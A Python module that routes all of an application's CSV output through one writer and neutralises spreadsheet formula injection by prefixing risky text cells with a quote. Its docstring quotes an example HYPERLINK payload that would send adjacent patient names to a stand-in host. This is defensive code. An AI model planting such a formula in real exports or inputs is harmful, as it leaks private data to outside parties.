"""The program's one CSV writer: every CSV we produce (CLI output and files, app exports) goes through it.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, tab or CR)
as a formula, so a payer named ``=HYPERLINK("http://x/?"&A1,"y")`` in an export would reach out of the
machine with the patient names beside it ("CSV injection", OWASP).  Text cells that start with one of
those characters get a leading ``'``, which every spreadsheet shows as text and hides; numbers — ints,
Decimals and number-shaped strings such as ``-5.00``, ``+$0.16`` or ``-12.5%`` — are written unchanged.

A carriage return inside a cell is written as a line feed: with ``\n`` line ends the csv module does not
quote a cell holding a bare CR, and a reader would split the row there.

Outside the layers (like ``estimator.files``) so that ``reports``, ``store``, ``cli`` and ``app`` share it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import Any, Final

#: First characters that make a spreadsheet evaluate a cell (OWASP's list).
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
#: A cell that is a plain number (money as shown, a count, a percentage: ``-23.75``, ``+$1,250.00``, ``-5%``)
#: is left as it is: digits, a sign, ``$``, ``,``, ``.`` and ``%`` cannot make a formula that does anything.
_NUMBER: Final = re.compile(r"[+-]\$?(?:\d[\d,]*(?:\.\d*)?|\.\d+)%?")


def safe_cell(value: object) -> str:
    """One cell as text, with a text cell that a spreadsheet would run as a formula neutralised by ``'``."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        text = "'" + text
    return text.replace("\r\n", "\n").replace("\r", "\n") if "\r" in text else text


def csv_text(header: Sequence[object], rows: Iterable[Sequence[object]]) -> str:
    """A header and rows as CSV text (``\\n`` line ends), every cell through ``safe_cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_cell(h) for h in header])
    writer.writerows([safe_cell(c) for c in row] for row in rows)
    return buffer.getvalue()


def dict_csv_text(rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> str:
    """Rows keyed by column name as CSV with a header line; a missing or ``None`` value is an empty cell."""
    return csv_text(columns, ([row.get(c) for c in columns] for row in rows))
